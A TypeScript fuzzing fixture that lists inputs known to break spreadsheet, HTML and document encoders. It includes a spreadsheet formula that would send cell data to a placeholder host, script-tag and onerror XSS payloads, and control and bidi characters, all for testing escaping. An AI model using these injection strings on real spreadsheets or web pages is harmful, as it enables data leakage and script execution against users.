/** Hostile texts: what a person can type or paste that a spreadsheet, a page or a document may take for something else. */

import fc from 'fast-check';

/** The longest text of a cell: 50,000 characters with the apostrophe of the encoder. */
export const LONGEST = 49_999;

/** Each of them once went wrong somewhere. */
export const HOSTILE: readonly string[] = [
  '=IMPORTXML("http://x?"&A1;"//a")',
  '=1+1',
  '=',
  '==',
  '+1',
  '+79131234567',
  '-2+3',
  '-',
  '- пункт',
  '@x',
  '@SUM(A1)',
  "'с апострофом",
  "''два",
  "'",
  "'=1+1",
  '007',
  '1E5',
  '35',
  '12,5 %',
  '1 000',
  '$5',
  'ИСТИНА',
  'TRUE',
  'ложь',
  '6-11',
  '1/2',
  '12:30',
  '30.02.2023',
  'октябрь 2022',
  '#REF!',
  '#Н/Д',
  '{1\\2}',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1',
  '\u00a0=1',
  '\ufeff=1',
  'две\nстроки',
  'две\r\nстроки',
  '</script><script>alert(1)</script>',
  '<!--<script>',
  ']]>',
  '<img src=x onerror=alert(1)>',
  '"><b>\'`',
  '&lt;&amp;&#39;',
  '{{x}}${x}<?= x ?>',
  '$& $1 $$',
  '\\n\\u0000',
  '👩‍🏫 №\u00a01',
  '🏳️‍🌈',
  'й и\u0306',
  '\u2028\u2029',
  'а\u202eб\u200f\u200e',
  '\u200b',
  'a;b,c"d\'e',
  '__proto__',
  'constructor',
  'null',
  'undefined',
];

/** Characters that neither a keyboard nor a document holds; they come with what is pasted. */
export const CONTROLS: readonly string[] = [
  'а\u0000б',
  '\u0001',
  'а\u0007\u0008б',
  '\u000b\u000c',
  '\u001b[31m',
  '\u007f\u0085',
  '\ue000 значок',
  '\uffff\ufffe',
  'полпары \ud83d',
  '\udc69 полпары',
];

const PIECES = [
  ...HOSTILE.filter(text => text.length < 20),
  ...'=+-@\'"<>&;,\t\r\n%#{}\\/.:0159аЯё',
  'TRUE',
  'январь',
  'https://x.org/',
];

/** Short texts made of pieces that mean something to somebody. */
export const hostileText = fc.oneof(
  {arbitrary: fc.constantFrom(...HOSTILE), weight: 2},
  {
    arbitrary: fc
      .array(fc.constantFrom(...PIECES), {minLength: 1, maxLength: 6})
      .map(pieces => pieces.join('')),
    weight: 4,
  },
  {
    arbitrary: fc.string({unit: 'grapheme', minLength: 1, maxLength: 30}),
    weight: 1,
  },
);

/** Any code units at all, halves of pairs and control characters among them. */
export const anyText = fc.oneof(
  hostileText,
  fc.constantFrom(...CONTROLS),
  fc
    .array(
      fc.oneof(
        fc.constantFrom(...PIECES),
        fc.nat(0xffff).map(unit => String.fromCharCode(unit)),
      ),
      {minLength: 1, maxLength: 12},
    )
    .map(pieces => pieces.join('')),
);

/** Texts in their order, the same ones for the same seed: quick, for millions of them. */
export function* hostileTexts(seed: number): Generator<string, never> {
  yield* HOSTILE;
  let state = seed >>> 0 || 1;
  // A xorshift: https://www.jstatsoft.org/article/view/v008i14.
  const next = (below: number) => {
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    return (state >>> 0) % below;
  };
  for (;;) {
    const length = 1 + next(6);
    let text = '';
    for (let piece = 0; piece < length; piece++) {
      text +=
        next(4) === 0
          ? String.fromCodePoint(next(0x2000) + 0xa0)
          : PIECES[next(PIECES.length)];
    }
    yield text;
  }
}
